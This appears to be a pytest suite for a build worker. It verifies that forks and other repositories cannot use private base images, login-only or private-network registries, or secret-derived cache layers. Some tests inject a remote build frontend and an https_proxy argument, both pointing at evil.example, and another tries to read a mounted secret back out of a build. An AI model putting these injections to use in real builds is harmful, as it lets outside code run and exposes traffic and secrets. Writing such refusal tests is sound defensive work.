"""What builds start from, on a worker, an engine and a registry: nobody gets another's private image."""

from __future__ import annotations

import secrets
from collections.abc import Iterator
from typing import Any

import pytest

from tests.parts.engine import Engine
from tests.parts.registry import Registry
from tests.workers.bot import Bot
from tests.workers.build.test_build import spec
from tests.workers.conftest import TOKEN, GitHost
from workers.build import permitted
from workers.contract.messages import BuildSpec, Credentials, Failed, Fault, RegistryLogin, Succeeded

pytestmark = pytest.mark.usefixtures("worker", "granted")

PREFIX = f"localhost:9/{secrets.token_hex(4)}"


@pytest.fixture
def granted(bot: Bot) -> Credentials:
    bot.credentials = Credentials(git_username="x-access-token", git_password=TOKEN, trust="mine")
    return bot.credentials


@pytest.fixture
def private(engine: Engine, base: str) -> Iterator[str]:
    """An image of another repository's, which the engine has: `{}` has a tag or digest to follow."""
    name = f"{PREFIX}/umbrella/vault"
    engine.client.api.tag(base, name, "main")
    yield name
    engine.client.api.remove_image(f"{name}:main")


@pytest.fixture
def guarded(engine: Engine, registry: Registry, base: str) -> Iterator[str]:
    """An image that only a login reads, which the engine has, by tag and by digest, from somebody's build."""
    repository = f"{registry.address}/private{secrets.token_hex(4)}"
    engine.client.api.tag(base, repository, "1")
    engine.client.login(registry.username, registry.password, registry=registry.address)
    engine.client.images.push(repository, "1")
    yield repository
    engine.client.api.remove_image(f"{repository}:1")


def told(git: GitHost, name: str, dockerfile: str, **more: Any) -> BuildSpec:
    reserved = {
        "reserved": ["docker.io/blacktree", PREFIX],
        "permitted": [f"{PREFIX}/acme/shop(/[a-z0-9-]+)?"],
    }
    return spec(git, git.commit({"Dockerfile": dockerfile, "x": name}), name, **{**reserved, **more})


@pytest.mark.parametrize(
    "dockerfile",
    [
        "FROM {name}:main\n",
        "FROM {base} AS one\nCOPY --from={name}:main / /\n",
        "FROM {base}\nRUN --mount=type=bind,from={name}:main,target=/t ls /t\n",
        "ARG WHAT={name}:main\nFROM $WHAT\n",
        "FROM {name}:main AS main\nFROM main\nADD https://example.com /x\n",
    ],
)
@pytest.mark.parametrize("fork", [False, True])
async def test_another_repositorys_image_is_started_from_by_nobody(
    bot: Bot, git: GitHost, name: str, base: str, private: str, dockerfile: str, fork: bool
) -> None:
    more = {"fork": True, "permitted": [], "shared": ["docker.io/blacktree-test/base"]} if fork else {}
    ended = await bot.run("b", told(git, name, dockerfile.format(name=private, base=base), **more))

    assert isinstance(ended.result, Failed), bot.log("b")
    assert (ended.result.fault, ended.result.reason) == (Fault.USER, "base_image_refused")
    who = "a fork" if fork else "acme/shop"
    assert ended.result.sentence.startswith(f"{private}:main is not for {who} to start from")
    assert "SHARED_IMAGES" in ended.result.sentence


async def test_a_repository_starts_from_its_own_images_and_from_shared_ones(
    bot: Bot, git: GitHost, engine: Engine, name: str, base: str, private: str
) -> None:
    mine = f"{PREFIX}/acme/shop/base"
    engine.client.api.tag(base, mine, "main")
    try:
        own = await bot.run("own", told(git, name, f"FROM {mine}:main\n"))
        assert isinstance(own.result, Succeeded), bot.log("own")
    finally:
        engine.client.api.remove_image(f"{mine}:main")
    shared = await bot.run("shared", told(git, name, f"FROM {private}:main\n", shared=[f"{PREFIX}/.*/vault"]))
    assert isinstance(shared.result, Succeeded), bot.log("shared")


async def test_an_image_is_not_had_by_its_id(
    bot: Bot, git: GitHost, engine: Engine, name: str, base: str
) -> None:
    whole = str(engine.client.images.get(base).id).removeprefix("sha256:")
    for given in (whole, whole[:7]):
        ended = await bot.run(given, told(git, name, f"FROM {given}\n"))
        assert isinstance(ended.result, Failed)
        assert (ended.result.fault, ended.result.reason) == (Fault.USER, "base_image_refused")


async def test_a_fork_starts_from_nothing_that_only_a_login_reads_though_the_engine_has_it(
    bot: Bot,
    git: GitHost,
    engine: Engine,
    registry: Registry,
    name: str,
    guarded: str,
    granted: Credentials,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # The registry of these tests is on this machine, from which a fork gets nothing at all.
    monkeypatch.setattr(permitted, "is_nearby", lambda _: False)
    login = RegistryLogin(host=registry.address, username=registry.username, password=registry.password)
    digest = registry.digest(guarded.partition("/")[2], "1")
    bot.credentials = granted.model_copy(update={"registries": [login]})
    own = await bot.run("own", told(git, name, f"FROM {guarded}:1\nRUN echo {name}\n"))
    assert isinstance(own.result, Succeeded), bot.log("own")
    own = await bot.run("pinned", told(git, name, f"FROM {guarded}@{digest}\nRUN echo {name}\n"))
    assert isinstance(own.result, Succeeded), bot.log("pinned")

    # A bot that gave a fork the login all the same would change nothing: the next does without.
    bot.credentials = granted
    for place, reference in enumerate((f"{guarded}:1", f"{guarded}@{digest}")):
        ended = await bot.run(f"fork-{place}", told(git, name, f"FROM {reference}\n", fork=True))
        assert isinstance(ended.result, Failed), bot.log(f"fork-{place}")
        assert (ended.result.fault, ended.result.reason) == (Fault.USER, "base_image_missing")
        assert "without a login" in ended.result.sentence
    assert engine.client.images.list(f"{guarded}:1")


async def test_a_fork_starts_from_nothing_that_this_machine_alone_reaches(
    bot: Bot, git: GitHost, name: str, guarded: str
) -> None:
    ended = await bot.run("b", told(git, name, f"FROM {guarded}:1\n", fork=True))

    assert isinstance(ended.result, Failed)
    assert (ended.result.fault, ended.result.reason) == (Fault.USER, "base_image_refused")
    assert "is on a private network" in ended.result.sentence


async def test_a_fork_has_no_frontend_of_its_own(bot: Bot, git: GitHost, name: str, base: str) -> None:
    more = {"fork": True, "shared": ["docker.io/blacktree-test/base"]}
    ended = await bot.run("b", told(git, name, f"# syntax=evil.example/frontend\nFROM {base}\n", **more))

    assert isinstance(ended.result, Failed)
    assert (ended.result.fault, ended.result.reason) == (Fault.USER, "frontend_refused")


async def test_a_job_of_an_older_bot_gets_no_predefined_argument_through(
    bot: Bot, git: GitHost, name: str, base: str
) -> None:
    ended = await bot.run("b", told(git, name, f"FROM {base}\n", args={"https_proxy": "http://evil.example"}))

    assert isinstance(ended.result, Failed)
    assert (ended.result.fault, ended.result.reason) == (Fault.USER, "bad_argument")


async def test_a_fork_that_repeats_a_dockerfile_gets_nothing_that_a_secret_made(
    bot: Bot, git: GitHost, name: str, base: str, granted: Credentials
) -> None:
    secret = f"s3cret-{name[::-1]}"
    made = f"FROM {base}\nRUN --mount=type=secret,id=KEY rev /run/secrets/KEY >/made || : {name}\n"
    bot.credentials = granted.model_copy(update={"build": {"KEY": secret}})
    see = f"{made}RUN cat /made; echo looked\n"
    own = await bot.run("own", told(git, name, see, secrets=["KEY"]))
    assert isinstance(own.result, Succeeded), bot.log("own")
    assert secret[::-1] in bot.log("own")

    bot.credentials = granted.model_copy(update={"trust": "theirs"})
    more = {"fork": True, "shared": ["docker.io/blacktree-test/base"]}
    ended = await bot.run("fork", told(git, name, see, **more))

    assert isinstance(ended.result, Succeeded), bot.log("fork")
    assert "looked" in bot.log("fork")
    assert secret[::-1] not in bot.log("fork")
    assert ended.result.image is not None
    assert (ended.result.image.layers, ended.result.image.cached) == (2, 0)
